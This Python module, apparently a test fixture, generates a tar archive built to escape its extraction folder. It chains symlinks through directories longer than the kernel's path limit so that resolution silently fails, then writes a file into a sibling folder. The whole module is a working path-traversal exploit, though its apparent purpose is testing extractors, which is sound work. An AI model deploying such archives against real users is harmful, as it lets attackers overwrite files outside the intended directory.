"""Archives that try to make files outside of the folder that they are unpacked to."""

import io
import tarfile


def nested_past_the_longest_path(victim: str) -> bytes:
    """Links through sixteen folders whose path is longer than the kernel's bound, where resolving one gives up and
    says nothing; then one that climbs from there to the folder `victim` beside the target, and a file below it."""
    stream = io.BytesIO()
    name, path, letters = "d" * 247, "", "abcdefghijklmnop"
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for letter in letters:
            archive.addfile(_member(f"{path}{name}", tarfile.DIRTYPE))
            archive.addfile(_member(f"{path}{letter}", tarfile.SYMTYPE, name))
            path += f"{name}/"
        link = "/".join(letters) + "/" + "l" * 254
        archive.addfile(_member(link, tarfile.SYMTYPE, "../" * len(letters)))
        archive.addfile(_member("escape", tarfile.SYMTYPE, f"{link}/../{victim}"))
        file = _member("escape/outside", tarfile.REGTYPE)
        file.size = 1
        archive.addfile(file, io.BytesIO(b"x"))
    return stream.getvalue()


def _member(name: str, kind: bytes, link: str = "") -> tarfile.TarInfo:
    member = tarfile.TarInfo(name)
    member.type, member.linkname, member.mode = kind, link, 0o755
    return member
